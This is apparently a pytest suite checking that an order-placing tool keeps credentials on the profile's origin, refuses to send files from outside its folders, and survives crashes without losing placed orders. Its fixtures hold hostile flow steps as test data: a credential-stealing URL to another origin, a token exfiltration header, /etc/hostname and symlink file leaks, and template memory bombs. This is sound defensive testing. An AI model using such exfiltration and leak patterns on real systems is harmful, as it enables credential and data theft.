"""A spec that names its own flow, run by ``plan`` and ``apply`` as real processes against a hostile server.

The flow is the spec author's: it may try to send the profile's credential or any file
elsewhere, and it may fail after the order was placed. What reaches which host, and what
the user is told, is checked on the server and in the output.
"""

from __future__ import annotations

import json
import os
import shutil
import subprocess
import sys
from pathlib import Path

import pytest

ROOT = Path(__file__).resolve().parents[2]
USER = "orders-bot"
PASSWORD = "pr0d-Pa55w0rd-7f3e"

HEAD = """apiVersion: orderspec/v1
kind: Flow
name: own
base_url: "{{ target.base_url }}"
"""

TAIL = """discard:
  what: basket
  id: vars.basket
  request: {method: DELETE, url: "/ok/%(tag)s-discard/{{ vars.basket }}"}
outputs: {number: vars.number}
contract: {order_number: number}
"""

SPEC = """apiVersion: orderspec/v1
kind: Order
metadata:
  name: own-flow
target:
  flow: own.flow.yaml
  profile: prod
customer: {name: Ada Lovelace, email: ada@example.com}
addresses:
  shipping: {name: Ada Lovelace, street: Main Street 1, zip: "12345", city: Springfield, country: US}
items:
  - file: models/bracket.stl
    material: PLA
    quantity: 1
"""


def _project(tmp_path: Path, base_url: str, steps: str, name: str = "order.yaml") -> Path:
    """A spec folder with its own flow (``steps`` after the head, ``%(tag)s`` and ``%(port)s`` filled in) and a basic-auth profile."""
    folder = tmp_path / "specs"
    if not folder.exists():
        shutil.copytree(ROOT / "specs" / "examples" / "models", folder / "models")
        (folder / "orderspec.yaml").write_text(
            f"profiles:\n  prod:\n    base_url: {base_url}\n    auth: {{kind: basic, username_env: PROD_USER, env: PROD_PASSWORD}}\n",
            encoding="utf-8",
        )
    fill = {"tag": tmp_path.name, "port": base_url.rsplit(":", 1)[1]}
    flow_name = name.replace(".yaml", ".flow.yaml").replace("order.flow", "own.flow")
    (folder / flow_name).write_text(HEAD + steps % fill + TAIL % fill, encoding="utf-8")
    spec = SPEC.replace("own.flow.yaml", flow_name).replace("name: own-flow", f"name: {name.removesuffix('.yaml')}")
    (folder / name).write_text(spec, encoding="utf-8")
    return folder / name


def _orderspec(cwd: Path, *args: str) -> subprocess.CompletedProcess[str]:
    env = {**os.environ, "PROD_USER": USER, "PROD_PASSWORD": PASSWORD, "PROD_TOKEN": PASSWORD}
    done = subprocess.run(
        [sys.executable, "-m", "orderspec", *args], cwd=cwd, env=env, stdin=subprocess.DEVNULL, capture_output=True, text=True, timeout=120
    )
    assert "Traceback" not in done.stderr and done.returncode != 70, done.stderr
    assert PASSWORD not in done.stdout + done.stderr
    return done


def _seen(hostile, tag: str) -> list:
    return [seen for seen in hostile.seen if tag in seen.path]


# -- item: a credential goes to the profile's own origin, never into a template ----------------


def test_a_flow_run_by_plan_cannot_read_the_credential(hostile, tmp_path: Path) -> None:
    spec = _project(
        tmp_path,
        hostile.base_url,
        "steps:\n"
        "  - name: steal\n"
        "    request: {method: GET, url: 'http://localhost:%(port)s/ok/%(tag)s-steal?p={{ secrets.secret }}&u={{ secrets.username }}'}\n"
        "  - name: order\n    effect: place\n    request: {method: POST, url: /ok/%(tag)s-order}\n    capture: {number: response.body.number}\n",
    )
    done = _orderspec(tmp_path, "plan", str(spec))
    assert done.returncode == 1
    assert "step 'steal'" in done.stderr and "secrets.secret is undefined" in done.stderr
    assert _seen(hostile, tmp_path.name) == []


def test_the_profiles_credential_reaches_its_origin_and_no_other(hostile, tmp_path: Path) -> None:
    """localhost is another origin than the profile's 127.0.0.1, though the same server answers."""
    spec = _project(
        tmp_path,
        hostile.base_url,
        "steps:\n"
        "  - name: own\n    request: {method: GET, url: /ok/%(tag)s-own}\n"
        "  - name: elsewhere\n    request: {method: GET, url: 'http://localhost:%(port)s/ok/%(tag)s-elsewhere'}\n"
        "  - name: order\n    effect: place\n    request: {method: POST, url: /ok/%(tag)s-order}\n    capture: {number: response.body.number}\n",
    )
    done = _orderspec(tmp_path, "plan", str(spec))
    assert done.returncode == 0, done.stderr
    own, elsewhere = _seen(hostile, tmp_path.name)
    assert own.path.endswith("-own") and own.headers["Authorization"].startswith("Basic ")
    assert elsewhere.path.endswith("-elsewhere") and elsewhere.headers["Host"].startswith("localhost:")
    assert "Authorization" not in elsewhere.headers and PASSWORD not in repr(elsewhere)


BODIES = {
    "content": "content: {path: '%s'}",
    "multipart": "multipart: {files: {model: {path: '%s'}}}",
    "zip": "multipart: {files: {model: {zip: ['models/bracket.stl', '%s'], filename: m.zip}}}",
}


@pytest.mark.parametrize("body", sorted(BODIES))
@pytest.mark.parametrize("written", ["/etc/hostname", "../outside.txt", "models/link.stl"])
def test_a_flow_run_by_plan_sends_no_file_from_outside_the_folders(hostile, tmp_path: Path, written: str, body: str) -> None:
    (tmp_path / "outside.txt").write_text("private", encoding="utf-8")
    spec = _project(
        tmp_path,
        hostile.base_url,
        "steps:\n"
        f"  - name: leak\n    request: {{method: GET, url: /ok/%(tag)s-leak, {BODIES[body] % written}}}\n"
        "  - name: order\n    effect: place\n    request: {method: POST, url: /ok/%(tag)s-order}\n    capture: {number: response.body.number}\n",
    )
    (spec.parent / "models" / "link.stl").symlink_to(tmp_path / "outside.txt")
    done = _orderspec(tmp_path, "plan", str(spec))
    assert done.returncode == 1
    assert "step 'leak'" in done.stderr and "outside the folders a flow may send files from" in done.stderr
    assert _seen(hostile, tmp_path.name) == []


def test_orderspec_run_keeps_secrets_to_the_origin_of_its_base_url(hostile, tmp_path: Path) -> None:
    port = hostile.base_url.rsplit(":", 1)[1]
    flow = tmp_path / "run.flow.yaml"
    flow.write_text(
        HEAD + f"steps:\n  - name: steal\n    request: {{method: GET, url: 'http://localhost:{port}/ok/{tmp_path.name}-steal', "
        "headers: {X-Key: '{{ secrets.token }}'}}\n",
        encoding="utf-8",
    )
    done = _orderspec(tmp_path, "run", str(flow), "--secret", "token=PROD_TOKEN", "--base-url", hostile.base_url)
    assert done.returncode == 1
    assert f"secrets are sent only to {hostile.base_url}" in done.stderr
    assert _seen(hostile, tmp_path.name) == []


# -- item: plan sends read steps only; a POST without an effect creates -------------------------

ALL_EFFECTS = (
    "steps:\n"
    "  - name: look\n    request: {method: GET, url: /ok/%(tag)s-look}\n"
    "  - name: basket\n    request: {method: POST, url: /ok/%(tag)s-basket}\n    capture: {basket: response.body.id}\n"
    "  - name: note\n    effect: write\n    request: {method: PUT, url: '/ok/%(tag)s-note/{{ vars.basket }}'}\n"
    "  - name: order\n    effect: place\n    request: {method: POST, url: /ok/%(tag)s-order}\n    capture: {number: response.body.number}\n"
)


def test_plan_sends_read_steps_only(hostile, tmp_path: Path) -> None:
    spec = _project(tmp_path, hostile.base_url, ALL_EFFECTS)
    done = _orderspec(tmp_path, "plan", "--format", "json", str(spec))
    assert done.returncode == 0, done.stderr
    assert [(seen.method, seen.path.rsplit("-", 1)[1]) for seen in _seen(hostile, tmp_path.name)] == [("GET", "look")]
    assert json.loads(done.stdout)["placed"] == 0


def test_plan_quote_goes_up_to_the_place_step_and_deletes_the_draft(hostile, tmp_path: Path) -> None:
    spec = _project(tmp_path, hostile.base_url, ALL_EFFECTS)
    done = _orderspec(tmp_path, "plan", "--quote", str(spec))
    assert done.returncode == 0, done.stderr
    sent = [(seen.method, seen.path.split(f"{tmp_path.name}-")[1]) for seen in _seen(hostile, tmp_path.name)]
    assert sent == [("GET", "look"), ("POST", "basket"), ("PUT", "note/1"), ("DELETE", "discard/1")]


# -- item: a placed order stays placed, whatever fails after it ---------------------------------


@pytest.mark.parametrize(
    ("later", "message"),
    [
        ("request: {method: GET, url: /echo/500}", "answered 500"),
        ("request: {method: GET, url: '/deep?depth=100000'}\n    capture: {deep: response.body}", "JSON nested too deeply"),
        ("request: {method: GET, url: '/ok/{{ vars.nothing }}'}", "vars.nothing is undefined"),
        ("request: {method: GET, url: '/drip?bytes=100&every=0.1'}", "no complete answer within 1 s"),
    ],
)
def test_a_failure_after_the_order_was_placed_is_a_warning_not_a_discard(hostile, tmp_path: Path, later: str, message: str) -> None:
    steps = (
        "limits: {request_seconds: 1}\n"
        "steps:\n"
        "  - name: basket\n    request: {method: POST, url: /ok/%(tag)s-basket}\n    capture: {basket: response.body.id}\n"
        "  - name: order\n    effect: place\n    request: {method: POST, url: /ok/%(tag)s-order}\n    capture: {number: response.body.number}\n"
        f"  - name: confirm\n    {later}\n"
    )
    spec = _project(tmp_path, hostile.base_url, steps)
    done = _orderspec(tmp_path, "apply", "--yes", "--format", "json", str(spec))
    assert done.returncode == 0, done.stderr
    [placed] = json.loads(done.stdout)["placed"]
    assert placed["order_number"] == "N-1"
    [warning] = placed["warnings"]
    assert "step 'confirm'" in warning and message in warning
    assert [seen.method for seen in _seen(hostile, tmp_path.name)] == ["POST", "POST"]  # no DELETE of the basket
    again = _orderspec(tmp_path, "apply", "--yes", str(spec))
    assert again.returncode == 0, again.stderr
    assert len(_seen(hostile, f"{tmp_path.name}-order")) == 1  # the state holds it as placed: never sent twice


def test_the_warning_is_shown_with_the_placed_order(hostile, tmp_path: Path) -> None:
    steps = (
        "steps:\n"
        "  - name: order\n    effect: place\n    request: {method: POST, url: /ok/%(tag)s-order}\n    capture: {number: response.body.number}\n"
        "  - name: confirm\n    request: {method: GET, url: /echo/500}\n"
    )
    spec = _project(tmp_path, hostile.base_url, steps)
    done = _orderspec(tmp_path, "apply", "--yes", str(spec))
    assert done.returncode == 0, done.stderr
    placed = done.stdout.index("placed order: order N-1")
    assert placed < done.stdout.index("warning: after placing:") and "step 'confirm'" in done.stdout
    assert "1 order placed" in done.stdout + done.stderr


def test_without_state_a_failure_after_placing_deletes_nothing(hostile, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """``apply_specs`` without a state store: the run itself must not discard what the order holds."""
    from orderspec.orders import apply_specs

    steps = (
        "steps:\n"
        "  - name: basket\n    request: {method: POST, url: /ok/%(tag)s-basket}\n    capture: {basket: response.body.id}\n"
        "  - name: order\n    effect: place\n    request: {method: POST, url: /ok/%(tag)s-order}\n    capture: {number: response.body.number}\n"
        "  - name: confirm\n    request: {method: GET, url: /echo/500}\n"
    )
    spec = _project(tmp_path, hostile.base_url, steps)
    monkeypatch.setenv("PROD_USER", USER)
    monkeypatch.setenv("PROD_PASSWORD", PASSWORD)
    [placed] = apply_specs([spec], profiles_file=spec.parent / "orderspec.yaml")
    assert placed.order_number == "N-1" and "step 'confirm'" in placed.warnings[0]
    assert [seen.method for seen in _seen(hostile, tmp_path.name)] == ["POST", "POST"]


def test_ctrl_c_at_a_step_after_placing_keeps_the_order_placed(hostile, tmp_path: Path) -> None:
    """Interrupted while a later step waits for its answer: the basket is not deleted and the next apply sends nothing."""
    import signal
    import time

    steps = (
        "steps:\n"
        "  - name: basket\n    request: {method: POST, url: /ok/%(tag)s-basket}\n    capture: {basket: response.body.id}\n"
        "  - name: order\n    effect: place\n    request: {method: POST, url: /ok/%(tag)s-order}\n    capture: {number: response.body.number}\n"
        "  - name: confirm\n    request: {method: GET, url: '/drip?bytes=300&every=0.1&tag=%(tag)s'}\n"
    )
    spec = _project(tmp_path, hostile.base_url, steps)
    env = {**os.environ, "PROD_USER": USER, "PROD_PASSWORD": PASSWORD}
    process = subprocess.Popen(
        [sys.executable, "-m", "orderspec", "apply", "--yes", str(spec)], cwd=tmp_path, env=env, stdin=subprocess.DEVNULL, stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True
    )
    try:
        deadline = time.monotonic() + 60
        while not any(seen.path.startswith("/drip") for seen in _seen(hostile, tmp_path.name)) and time.monotonic() < deadline:
            time.sleep(0.05)
        process.send_signal(signal.SIGINT)
        out, err = process.communicate(timeout=30)
    finally:
        if process.poll() is None:
            process.kill()
    assert process.returncode == 130 and "Traceback" not in err
    assert "order N-1 was placed" in err and "stays placed" in err
    # reported as placed, with what the interruption left undone, never as "not placed"
    assert "placed order: order N-1" in out and "warning: after placing: interrupted (Ctrl-C)" in out, out
    assert "1 order placed." in out and "not placed" not in out, out
    assert [seen.method for seen in _seen(hostile, tmp_path.name)] == ["POST", "POST", "GET"]  # no DELETE of the basket
    again = _orderspec(tmp_path, "apply", "--yes", str(spec))
    assert again.returncode == 0 and "order N-1 was placed before; nothing sent" in again.stdout
    assert len(_seen(hostile, f"{tmp_path.name}-order")) == 1


# -- item: what used to crash is a located error for its spec; the other specs still run --------


@pytest.mark.parametrize(
    ("step", "message"),
    [
        ("request: {method: POST, url: '/deep?depth=100000&tag=%(tag)s'}\n    capture: {basket: response.body}", "JSON nested too deeply"),
        ("request: {method: POST, url: '/ok/%(tag)s-x', json: {pad: \"{{ 'x' * 100000000 }}\"}}", "would build more than 16777216"),
        ("request: {method: POST, url: '/ok/%(tag)s-x', json: {pad: \"{{ range(10**12) | list }}\"}}", "range"),
    ],
)
def test_a_crashing_spec_is_a_located_error_and_the_others_are_placed(hostile, tmp_path: Path, step: str, message: str) -> None:
    good = (
        "steps:\n"
        "  - name: order\n    effect: place\n    request: {method: POST, url: /ok/%(tag)s-good}\n    capture: {number: response.body.number}\n"
    )
    bad = f"steps:\n  - name: basket\n    {step}\n" + good.removeprefix("steps:\n")
    _project(tmp_path, hostile.base_url, bad, name="a-bad.yaml")
    _project(tmp_path, hostile.base_url, good, name="b-good.yaml")
    done = _orderspec(tmp_path, "apply", "--yes", "--format", "json", "specs")
    assert done.returncode == 1, done.stderr
    report = json.loads(done.stdout)
    assert [entry["name"] for entry in report["placed"]] == ["b-good"]
    [failed] = report["failed"]
    assert failed["name"] == "a-bad" and failed["step"] == "basket" and message in failed["message"]
    assert "a-bad.yaml" in done.stderr and "step 'basket'" in done.stderr
    if "/deep" in step:  # the create request was sent: what it made may exist
        assert "check there before running again" in done.stderr


def test_a_redirect_from_the_profiles_origin_is_not_followed(hostile, tmp_path: Path) -> None:
    """A redirect elsewhere would carry the request (and a client's credential) to another host."""
    spec = _project(
        tmp_path,
        hostile.base_url,
        "steps:\n"
        "  - name: look\n    request: {method: GET, url: '/redirect/307/%(tag)s', params: {to: 'http://localhost:%(port)s/ok/%(tag)s-landing'}}\n"
        "  - name: order\n    effect: place\n    request: {method: POST, url: /ok/%(tag)s-order}\n    capture: {number: response.body.number}\n",
    )
    done = _orderspec(tmp_path, "plan", str(spec))
    assert done.returncode == 1 and "step 'look'" in done.stderr and "307" in done.stderr
    [asked] = _seen(hostile, tmp_path.name)
    assert asked.path.startswith("/redirect/307/") and asked.headers["Authorization"].startswith("Basic ")


@pytest.mark.parametrize("effect", ["write", "create"])
def test_a_model_that_grows_while_it_is_uploaded_fails_its_spec_alone(hostile, tmp_path: Path, effect: str) -> None:
    """The target reads the upload slowly; the model grows meanwhile: a located error for that spec, the other is placed."""
    import struct
    import threading
    import time

    good = "steps:\n  - name: order\n    effect: place\n    request: {method: POST, url: /ok/%(tag)s-good}\n    capture: {number: response.body.number}\n"
    upload = (
        f"steps:\n  - name: upload\n    effect: {effect}\n"
        "    request: {method: POST, url: '/slow-read?every=0.02&tag=%(tag)s', content: {path: '{{ order.items[0].path }}'}}\n"
    )
    grow = _project(tmp_path, hostile.base_url, upload + good.removeprefix("steps:\n"), name="a-grow.yaml")
    _project(tmp_path, hostile.base_url, good, name="b-good.yaml")
    model = grow.parent / "models" / "big.stl"
    triangles = (16 << 20) // 50
    model.write_bytes(b"\0" * 80 + struct.pack("<I", triangles) + b"\0" * 50 * triangles)  # a binary STL of 16 MiB
    grow.write_text(grow.read_text(encoding="utf-8").replace("models/bracket.stl", "models/big.stl"), encoding="utf-8")

    def grow_once_the_upload_started() -> None:
        deadline = time.monotonic() + 60
        while not any("slow-read" in path and tmp_path.name in path for path in hostile.started) and time.monotonic() < deadline:
            time.sleep(0.02)
        time.sleep(0.3)
        with model.open("ab") as handle:
            handle.write(b"\0" * 50)

    grower = threading.Thread(target=grow_once_the_upload_started, daemon=True)
    grower.start()
    done = _orderspec(tmp_path, "apply", "--yes", "--format", "json", "specs")
    grower.join(timeout=5)
    deadline = time.monotonic() + 30  # the server has read the upload to its end: nothing of this test runs on into the next
    while not any("slow-read" in seen.path for seen in _seen(hostile, tmp_path.name)) and time.monotonic() < deadline:
        time.sleep(0.05)
    assert done.returncode == 1, done.stderr
    report = json.loads(done.stdout)
    assert [entry["name"] for entry in report["placed"]] == ["b-good"]
    [failed] = report["failed"]
    assert failed["name"] == "a-grow" and failed["step"] == "upload" and "big.stl grew while it was being sent" in failed["message"]
    if effect == "create":
        assert "check on the target before running again" in done.stderr


@pytest.mark.parametrize("method", ["PUT", "PATCH", "DELETE"])
def test_a_changing_request_declared_read_is_refused_before_plan_sends_anything(hostile, tmp_path: Path, method: str) -> None:
    spec = _project(
        tmp_path,
        hostile.base_url,
        "steps:\n"
        "  - name: look\n    request: {method: GET, url: /ok/%(tag)s-look}\n"
        f"  - name: wipe\n    effect: read\n    request: {{method: {method}, url: /ok/%(tag)s-wipe}}\n"
        "  - name: order\n    effect: place\n    request: {method: POST, url: /ok/%(tag)s-order}\n    capture: {number: response.body.number}\n",
    )
    done = _orderspec(tmp_path, "plan", str(spec))
    assert done.returncode == 1
    assert f"own.flow.yaml:9:13: $.target.flow: step 'wipe' ({method}) cannot have effect read" in done.stderr
    assert _seen(hostile, tmp_path.name) == []


POST_READ = (
    "steps:\n"
    "  - name: look\n    request: {method: GET, url: /ok/%(tag)s-look}\n"
    "  - name: search\n    effect: read\n    request: {method: POST, url: /ok/%(tag)s-search}\n"
    "  - name: order\n    effect: place\n    request: {method: POST, url: /ok/%(tag)s-order}\n    capture: {number: response.body.number}\n"
)


def test_plan_does_not_send_a_post_the_specs_own_flow_calls_a_read(hostile, tmp_path: Path) -> None:
    """Only the profile's owners can vouch that a POST changes nothing; a spec (and its flow) may come from a pull request."""
    spec = _project(tmp_path, hostile.base_url, POST_READ)
    done = _orderspec(tmp_path, "plan", str(spec))
    assert done.returncode == 0, done.stderr
    assert [(seen.method, seen.path.rsplit("-", 1)[1]) for seen in _seen(hostile, tmp_path.name)] == [("GET", "look")]
    assert "plan does not send step 'search', a POST that only the spec's own flow calls a read" in done.stdout + done.stderr
    assert "plan_post_reads: true on profile 'prod'" in done.stdout + done.stderr


def test_a_profile_may_let_plan_send_the_post_reads_of_a_specs_own_flow(hostile, tmp_path: Path) -> None:
    spec = _project(tmp_path, hostile.base_url, POST_READ)
    profiles = spec.parent / "orderspec.yaml"
    profiles.write_text(profiles.read_text(encoding="utf-8") + "    plan_post_reads: true\n", encoding="utf-8")
    done = _orderspec(tmp_path, "plan", str(spec))
    assert done.returncode == 0, done.stderr
    assert [(seen.method, seen.path.rsplit("-", 1)[1]) for seen in _seen(hostile, tmp_path.name)] == [("GET", "look"), ("POST", "search")]
    assert "plan does not send" not in done.stdout + done.stderr
    # a spec cannot grant it to itself through its target options
    spec.write_text(spec.read_text(encoding="utf-8").replace("  profile: prod\n", "  profile: prod\n  options: {plan_post_reads: true}\n"), encoding="utf-8")
    profiles.write_text(profiles.read_text(encoding="utf-8").replace("    plan_post_reads: true\n", ""), encoding="utf-8")
    hostile.seen.clear()
    done = _orderspec(tmp_path, "plan", str(spec))
    assert [(seen.method, seen.path.rsplit("-", 1)[1]) for seen in _seen(hostile, tmp_path.name)] == [("GET", "look")], done.stderr
